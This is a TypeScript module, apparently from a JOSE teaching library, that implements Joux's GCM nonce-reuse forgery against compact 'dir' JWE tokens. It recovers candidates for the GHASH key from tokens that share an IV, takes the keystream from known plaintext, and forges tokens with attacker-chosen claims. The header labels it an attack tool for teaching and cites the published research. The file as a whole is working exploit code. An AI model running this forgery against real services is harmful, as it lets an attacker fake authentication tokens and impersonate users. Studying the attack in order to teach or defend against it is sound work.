/**
 * ============================================================================
 * NEVER USE outside teaching: an attack tool.
 * The GCM nonce-reuse forgery against compact dir JWEs: from two or more tokens
 * under one key and one IV, recover the GHASH key H, then seal claims of the
 * attacker's choosing that the key holder accepts. See docs/pitfalls/iv-reuse.md.
 * ============================================================================
 *
 * The idea is Antoine Joux's "forbidden attack" (Authentication Failures in NIST version
 * of GCM, comments to NIST, 2006). Hanno Böck, Aaron Zauner, Sean Devlin, Juraj Somorovsky
 * and Philipp Jovanovic carried it out against HTTPS servers that repeated GCM nonces
 * (Nonce-Disrespecting Adversaries, USENIX WOOT 2016), and cryptopals set 8 challenge 63
 * walks through it as an exercise.
 */

import { base64url } from 'jose-by-hand'
import { ghash } from 'jose-by-hand/glass-box'
import { add, type Element, isZero } from './field.ts'
import { addPolynomials, evaluate, type Polynomial } from './polynomial.ts'
import { rootsInField } from './roots.ts'
import { type ObservedToken, parseObservedToken, tagPolynomial } from './token.ts'

/** Reads the observed tokens and checks what the attack needs: ≥ 2 distinct tokens, one IV. */
function readObserved(tokens: readonly string[]): ObservedToken[] {
  if (!Array.isArray(tokens) || tokens.length < 2)
    throw new TypeError('the forgery needs at least two tokens under one key and one IV')
  const observed = tokens.map((token, i) => parseObservedToken(token, `token ${i + 1}`))
  const first = observed[0] as ObservedToken
  for (let i = 1; i < observed.length; i++) {
    if ((observed[i] as ObservedToken).ivSegment !== first.ivSegment)
      throw new TypeError(`token ${i + 1} has another IV than token 1: the forgery needs one IV`)
    if (tokens.indexOf(tokens[i] as string) !== i)
      throw new TypeError(`token ${i + 1} repeats an earlier token: it adds no equation`)
  }
  return observed
}

// #region recover-h
/**
 * Every candidate for H. Each token's P(X) has the value E_K(J0) at H, the same for all
 * tokens under one key and IV, so P_1 + P_2 vanishes at H: H is among its roots. Each
 * further token keeps only the candidates that make its own P_1 + P_i vanish too.
 */
function candidatesFor(observed: readonly ObservedToken[]): Element[] {
  const [first, second, ...others] = observed as [ObservedToken, ObservedToken, ...ObservedToken[]]
  const p1 = tagPolynomial(first)
  const f = addPolynomials(p1, tagPolynomial(second))
  let candidates = rootsInField(f)
  for (const other of others) {
    const g: Polynomial = addPolynomials(p1, tagPolynomial(other))
    candidates = candidates.filter((h) => isZero(evaluate(g, h)))
  }
  return candidates
}
// #endregion recover-h

/** The candidates for the GHASH key H from two or more tokens sharing a key and an IV. */
export function recoverHashKeyCandidates(tokens: readonly string[]): Uint8Array[] {
  return candidatesFor(readObserved(tokens))
}

function keystreamFrom(
  observed: readonly ObservedToken[],
  known: readonly (Uint8Array | undefined)[],
  length: number,
): Uint8Array {
  for (let i = 0; i < observed.length; i++) {
    const plaintext = known[i]
    if (plaintext === undefined) continue
    const { ciphertext } = observed[i] as ObservedToken
    if (!(plaintext instanceof Uint8Array) || plaintext.length !== ciphertext.length)
      throw new TypeError(`the known plaintext of token ${i + 1} does not fit its ciphertext`)
    if (plaintext.length < length) continue
    // C = P ⊕ keystream (GCTR, SP 800-38D §6.5), so keystream = C ⊕ P.
    return ciphertext.subarray(0, length).map((byte, j) => byte ^ (plaintext[j] as number))
  }
  throw new TypeError(
    `no observed token has a known plaintext of at least ${length} bytes: the forged plaintext needs that much keystream`,
  )
}

// #region forge
/**
 * Forged compact JWEs carrying `forged.plaintext` under `forged.protectedHeader` (default
 * `{ alg: 'dir', enc: 'A256GCM' }`): one per surviving candidate for H. The ciphertext is
 * the plaintext XOR the reused keystream; the tag is GHASH under the candidate H, masked
 * with E_K(J0) = T_1 ⊕ GHASH_H(A_1, C_1) from the first token.
 */
export function forgeWithRepeatedIv(
  observed: { token: string; plaintext?: Uint8Array }[],
  forged: { plaintext: Uint8Array; protectedHeader?: Record<string, unknown> },
): { tokens: string[]; candidates: number } {
  if (!Array.isArray(observed))
    throw new TypeError('observed must be an array of { token, plaintext? }')
  const tokens = readObserved(observed.map((entry) => entry?.token))
  if (!(forged?.plaintext instanceof Uint8Array))
    throw new TypeError('forged.plaintext must be a Uint8Array')
  const keystream = keystreamFrom(
    tokens,
    observed.map((entry) => entry.plaintext),
    forged.plaintext.length,
  )
  const encodedHeader = base64url.encode(
    JSON.stringify(forged.protectedHeader ?? { alg: 'dir', enc: 'A256GCM' }),
  )
  const aad = new TextEncoder().encode(encodedHeader)
  const ciphertext = forged.plaintext.map((byte, i) => byte ^ (keystream[i] as number))
  const first = tokens[0] as ObservedToken
  const candidates = candidatesFor(tokens)
  const forgedTokens = candidates.map((h) => {
    const mask = add(first.tag, ghash(h, first.aad, first.ciphertext))
    const tag = add(ghash(h, aad, ciphertext), mask)
    return `${encodedHeader}..${first.ivSegment}.${base64url.encode(ciphertext)}.${base64url.encode(tag)}`
  })
  return { tokens: forgedTokens, candidates: candidates.length }
}
// #endregion forge
